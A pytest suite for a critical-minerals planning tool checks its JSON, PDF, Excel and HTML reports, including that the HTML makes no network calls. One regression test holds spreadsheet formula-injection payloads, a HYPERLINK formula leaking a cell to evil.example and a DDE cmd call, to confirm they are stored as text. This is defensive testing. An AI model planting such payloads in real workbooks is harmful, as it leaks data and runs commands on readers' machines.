"""critmin plan: the four report files, their keys, pages, sheets and charts, and no network in the HTML."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from critmin.report.cycle import PLAN_KEYS
from tests.test_cli import run


@pytest.fixture(scope="module")
def plan_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("plan")
    run("plan", "--out", str(out), "--draws", "60", "--seed", "1", "--as-of", "2026-11")
    return out


def test_plan_json_interface(plan_dir: Path):
    d = json.loads((plan_dir / "plan.json").read_text())
    for key in PLAN_KEYS:
        assert key in d, key
    md = d["metadata"]
    assert md["seed"] == 1 and md["draws"] == 60 and md["data_version"] and md["critmin_version"] and md["parameters_sha256"]
    assert d["priority_minerals"] and d["scenarios"] and d["portfolio"]["selected"] and d["stockpiles"]["stockpiles"]
    assert d["sources"]["atlas"] and all(s["licence"] for s in d["sources"]["atlas"])


def test_plan_pdf_renders_at_least_five_pages(plan_dir: Path):
    import pymupdf

    doc = pymupdf.open(plan_dir / "plan.pdf")
    assert doc.page_count >= 5
    assert "seed" in (doc.metadata or {}).get("subject", "")
    for i in range(min(doc.page_count, 6)):
        pix = doc[i].get_pixmap(dpi=40)
        assert len(set(pix.samples)) > 1  # not blank
    # the executive answer comes first, then the title page with the provenance
    assert "Executive answer" in doc[0].get_text()
    title = next(i for i in range(doc.page_count) if "Coordinated plan: critical minerals" in doc[i].get_text())
    assert 1 <= title <= 20  # the answer (openings, its tables, each part in full, what would change), then the title page
    # review 33 F1: every sentence of the answer is printed in full, not drawn off the first page
    import re

    flat = re.sub(r"\s+", "", "".join(doc[i].get_text() for i in range(title)))
    summary = json.loads((plan_dir / "plan.json").read_text())["summary"]
    for key, sentence in summary["sentences"].items():
        assert re.sub(r"\s+", "", sentence[-40:]).replace("-", "") in flat.replace("-", ""), key
    assert "what would change the recommendation" in "".join(doc[i].get_text() for i in range(title))
    # review 34: each part opens with its decision, short enough for the first page; what qualifies it follows as notes
    first = re.sub(r"\s+", "", doc[0].get_text()).replace("-", "")
    for key, part in summary["parts"].items():
        assert len(part["lead"].split()) <= 150, (key, len(part["lead"].split()))
        assert " ".join([part["lead"], *part["notes"]]) == summary["sentences"][key]
        assert re.sub(r"\s+", "", part["lead"][:60]).replace("-", "") in first, key
        assert all(len(x.split()) <= 500 for x in part["notes"]), key


def test_plan_workbook_reads_back_with_charts(plan_dir: Path):
    import openpyxl

    wb = openpyxl.load_workbook(plan_dir / "plan.xlsx")
    for sheet in ("about", "priority_minerals", "scenarios", "portfolio", "stockpiles", "deliveries", "matches", "sources"):
        assert sheet in wb.sheetnames, sheet
    assert sum(len(ws._charts) for ws in wb.worksheets) >= 3
    about = {r[0]: r[1] for r in wb["about"].iter_rows(min_row=2, values_only=True)}
    assert about["seed"] == 1 and about["data_version"]


def test_plan_html_is_self_contained(plan_dir: Path):
    text = (plan_dir / "plan.html").read_text()
    assert "Plotly" in text and "sankey" in text.lower()
    assert 'src="http' not in text and "src='http" not in text
    assert "seed 1" in text
    # every figure switches off plotly.js 3's "Share chart" upload button (on by default)
    assert text.count('"showSendToCloud": false') == text.count("Plotly.newPlot(") > 0


def test_reports_are_readable_by_others(plan_dir: Path):
    import os
    import stat

    umask = os.umask(0)
    os.umask(umask)
    mode = stat.S_IMODE((plan_dir / "plan.json").stat().st_mode)
    assert mode == 0o666 & ~umask


def _chromium() -> str | None:
    import shutil

    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def test_plan_html_draws_map_and_sankey_in_headless_chromium_without_network(plan_dir: Path, tmp_path: Path):
    import subprocess

    exe = _chromium()
    if exe is None:
        pytest.skip("chromium is not installed (.ci/run installs Debian chromium)")
    netlog = tmp_path / "netlog.json"
    p = subprocess.run(
        [exe, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-default-apps", "--disable-sync", "--no-first-run", "--disable-extensions", "--virtual-time-budget=20000",
         f"--log-net-log={netlog}", "--dump-dom", (plan_dir / "plan.html").as_uri()],
        capture_output=True, text=True, timeout=180,
    )
    dom = p.stdout
    body = dom[dom.find("<body"):]
    assert 'class="sankey"' in body and "sankey-link" in body  # the chains' Sankey diagrams are drawn
    assert "layer countries" in body and "layer land" in body and "choroplethlocation" in body  # the world map is drawn
    log = json.loads(netlog.read_text())
    kinds = {v: k for k, v in log["constants"]["logEventTypes"].items()}
    page_requests = [
        e["params"]["url"] for e in log["events"]
        if kinds.get(e["type"]) == "URL_REQUEST_START_JOB" and str(e.get("params", {}).get("url", "")).startswith("http")
        and e["params"].get("initiator") != "not an origin"  # the browser's own services, not the page
    ]
    assert page_requests == []


def test_reports_are_typeset_for_a_ministry(plan_dir: Path):
    """Issue 12 item 3: tables with names, units and thousands separators, no 'nan' and no JSON in cells, a
    contents page and the vulnerabilities section; a workbook with number formats, frozen headers and filters."""
    import openpyxl
    import pymupdf

    doc = pymupdf.open(plan_dir / "plan.pdf")
    text = "\n".join(doc[i].get_text() for i in range(doc.page_count))
    flat = " ".join(text.split())  # a heading wrapped in its cell reads across the line break
    for needle in ("Contents", "2. Vulnerabilities by stage", "Decision on every project", "Budgets and what bound them", "Expected loss, USD"):
        assert needle in flat, needle
    assert "nan" not in text.split() and " | " not in text  # no pipe-delimited text tables
    wb = openpyxl.load_workbook(plan_dir / "plan.xlsx")
    for ws in wb.worksheets:
        if ws.title == "summary":
            continue
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref, ws.title
        for row in ws.iter_rows(min_row=2, values_only=True):
            for v in row:
                assert not (isinstance(v, str) and (v[:1] in "[{" or v == "nan")), (ws.title, v)
    head = [c.value for c in wb["scenarios"][1]]
    assert wb["scenarios"].cell(row=2, column=head.index("expected_loss_usd") + 1).number_format == "$#,##0"
    page = (plan_dir / "plan.html").read_text()
    assert ">nan<" not in page and "<a href='http" in page
    assert "Deliveries of " in page  # one delivery chart per node, never tonnes of different materials stacked


def test_no_workbook_critmin_writes_holds_a_live_formula(plan_dir: Path):
    """Issue 14 finding 4: a project named =HYPERLINK(...) became a live formula in another organisation's
    plan.xlsx. Every workbook critmin writes keeps such text as text."""
    import io

    import openpyxl
    import pandas as pd

    from critmin.output import xlsx_bytes
    from critmin.report.writers import xlsx_plan

    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "http://evil.example"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": pd.DataFrame({"name": evil})})))
    cells = [c for row in book["t"].iter_rows(min_row=2) for c in row]
    assert [c.value for c in cells] == evil and all(c.data_type == "s" for c in cells)
    plan = json.loads((plan_dir / "plan.json").read_text())
    plan["portfolio"]["selected"][0]["name"] = evil[0]
    plan["deliveries"]["allocation"][0]["buyer"] = evil[1]
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_plan(plan)))
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []



def test_a_japanese_name_does_not_break_the_pdf(plan_dir: Path):
    """The web fuzz test found it: a project named in Japanese made the PDF writer warn for every glyph its fonts
    lack (a failed plan run). The PDF draws '?' for such characters and says so; HTML and XLSX keep the text."""
    import json
    import warnings

    import pymupdf

    from critmin.report.glyphs import MISSING_NOTE
    from critmin.report.writers import pdf_plan

    plan = json.loads((plan_dir / "plan.json").read_text(encoding="utf-8"))
    plan["portfolio"]["projects"][0]["name"] = "日本の磁石工場"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        pdf = pdf_plan(plan)
    text = "".join(p.get_text() for p in pymupdf.open(stream=pdf, filetype="pdf"))
    assert "???????" in text and MISSING_NOTE.split(";")[0] in text.replace("\n", " ")


def test_the_summary_names_the_share_of_the_benefit_resting_on_an_assumption() -> None:
    """Review 14: 85 % of the plan's benefit was a guarantee to a project the finance model finds viable at every
    price case, and the executive answer did not say so."""
    from critmin.report.summary import _portfolio_assumptions

    pf = {
        "selected": [
            {"project_id": "P1", "name": "Viable mine", "instrument": "loan_guarantee", "expected_avoided_usd": 80.0, "assumptions": []},
            {"project_id": "P2", "name": "Undated mine", "instrument": "loan", "expected_avoided_usd": 20.0,
             "assumptions": ["no first-output date: typical lead time 60 months for status 'feasibility'"]},
        ],
        "finance": [{"project_id": "P1", "viability_gap_usd": {"0.7x": 0.0, "1x": 0.0, "1.3x": 0.0}},
                    {"project_id": "P2", "viability_gap_usd": {"0.7x": 5.0, "1x": 0.0, "1.3x": 0.0}}],
    }
    got = _portfolio_assumptions(pf)
    assert len(got) == 1 and got[0].startswith("80% of the portfolio's expected loss avoided") and "Viable mine" in got[0]
    pf["selected"][1]["expected_avoided_usd"] = 80.0  # now half the benefit has no first-output date
    got = _portfolio_assumptions(pf)
    assert len(got) == 2 and "Undated mine" in got[1] and got[1].startswith("50%")


def test_each_participant_has_its_own_ranking_in_every_report(plan_dir: Path):
    """Review 26: the answer sent DOE and METI to their own rankings (with the net figure), which the plan did not hold:
    plan.json had the bloc's alone. Each participant's ranking is now in plan.json, the workbook, the HTML and the PDF,
    and the answer gives each one's top five, with the materials where its producers gain more than its buyers lose."""
    import openpyxl
    import pymupdf

    from critmin._text import usd

    d = json.loads((plan_dir / "plan.json").read_text())
    text = d["summary"]["sentences"]["priorities"]
    wb = openpyxl.load_workbook(plan_dir / "plan.xlsx")
    html_text = (plan_dir / "plan.html").read_text()
    pdf_text = "".join(p.get_text() for p in pymupdf.open(plan_dir / "plan.pdf"))
    for j in ("USA", "JPN"):
        rows = d["participant_risk"][j]
        assert rows and all(r["perspective"] == j for r in rows) and rows != d["scenarios"]
        for r in rows[:5]:
            assert f"{r['name']} ({usd(float(r['expected_loss_usd']))})" in text
        for r in rows[:10]:
            if r["net_loss_usd"] is not None and float(r["net_loss_usd"]) < 0:
                assert f"{r['name']}: its producers gain {usd(-float(r['net_loss_usd']))} more than its buyers lose" in text
                # review 28 F1: said to be an upper bound
                assert "an upper bound: its makers are credited full output at the higher price" in text
        ws = wb[f"scenarios_{j}"]
        header = [c.value for c in next(ws.iter_rows(max_row=1))]
        assert "net_loss_usd" in header and ws.max_row == len(rows) + 1
        assert f"Scenario risks for {j}" in html_text and f"Scenario risks for {j}" in pdf_text
    assert "in its ranking (net_loss_usd)" not in text  # the old pointer to a table that did not exist


def test_the_answer_says_where_each_priority_loss_is_driven(plan_dir: Path):
    """Review 26: the chokepoint column named China's cobalt refining and lithium refining, whose losses come from the
    DRC's ore quota and Zimbabwe's concentrate ban. Each row also gives the stage and restrictor of the scenarios that
    carry its loss, read from the ranking's top scenarios."""
    d = json.loads((plan_dir / "plan.json").read_text())
    by_name = {r["name"]: r for r in d["scenarios"]}
    for t in d["summary"]["tables"]["priorities"]:
        top = by_name[t["mineral"]]["top_scenarios"]
        who = top[0]["restrictors"].replace(";", ", ")
        # review 32 F4: a measure on an input (E023's precursors) is named as such, not as the node's own restrictor
        first = f"{top[0]['stage']} ({who} licence on an input" if top[0].get("on_input") else f"{top[0]['stage']} ({who})"
        assert t["loss_driven_at"].startswith(first)
    cobalt = next((t for t in d["summary"]["tables"]["priorities"] if t["mineral"] == "Cobalt"), None)
    if cobalt is not None:
        assert "COD" in cobalt["loss_driven_at"] and "CHN" in cobalt["chokepoint"]


def test_a_conditional_project_is_tested_on_the_option_closest_to_passing(plan_dir: Path):
    """Review 23 item 7 and review 27: Mactung was recommended with a CAN guarantee (US$4.8 M expected cost), but the
    programme decided after the stocks tested it on an EU loan (US$10 M), the best option by tonnes per face dollar.
    A rejected project's reason now names the option with the largest gain less the cost it must justify."""
    d = json.loads((plan_dir / "plan.json").read_text())
    pf = d["portfolio"]
    chosen = {s["project_id"]: (s["instrument"], s["agency"]) for s in pf["selected"]}
    why = pf["selection_net_of_stocks"]["reason_net_of_stocks"]
    # since session 19 the bundled plan has no project conditional on the stocks (Katpar/Kairakty's published capacity
    # and first output leave it out); every project that fails the test names its best option all the same
    failed = [p["reason"] for p in pf["projects"] if p["decision"] == "rejected" and p["reason"].startswith("fails the net-benefit test")]
    assert failed and all(re.search(r"its best option \((\w+) from ([A-Z_]+), adding", r) for r in failed), failed[:3]
    for pid, reason in why.items():
        if reason.startswith("fails the net-benefit test"):
            inst, agency = chosen[pid]
            assert f"its best option ({inst} from {agency}," in reason, (pid, reason)
